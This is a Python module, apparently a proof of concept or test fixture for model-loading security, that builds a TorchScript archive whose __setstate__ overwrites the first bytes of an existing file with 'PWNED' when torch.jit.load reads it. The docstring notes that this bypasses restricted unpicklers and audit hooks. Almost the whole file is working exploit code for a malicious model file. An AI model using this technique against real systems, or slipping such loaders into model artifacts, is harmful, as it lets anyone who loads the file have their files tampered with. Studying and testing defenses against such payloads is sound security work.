"""A TorchScript module whose ``__setstate__`` runs while ``torch.jit.load`` reads it.

TorchScript runs in C++: neither a restricted unpickler nor the audit hook sees what it
does. Here it overwrites the first bytes of an existing file with ``PWNED`` (a scripted
``torch.from_file`` opens, but never creates, a file).
"""

import io

import torch

WRITTEN = b"PWNED"


class Overwrite(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        written = torch.from_file(state[0], shared=True, size=5, dtype=torch.uint8)
        for i, byte in enumerate([80, 87, 78, 69, 68]):
            written[i] = byte
        print(int(written.sum()))  # a use, so that the writes are kept
        self.path = state[0]
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def archive(path: str) -> bytes:
    """A ``torch.jit.save`` archive that overwrites ``path`` when it is loaded."""
    file = io.BytesIO()
    torch.jit.save(torch.jit.script(Overwrite(path)), file)
    return file.getvalue()
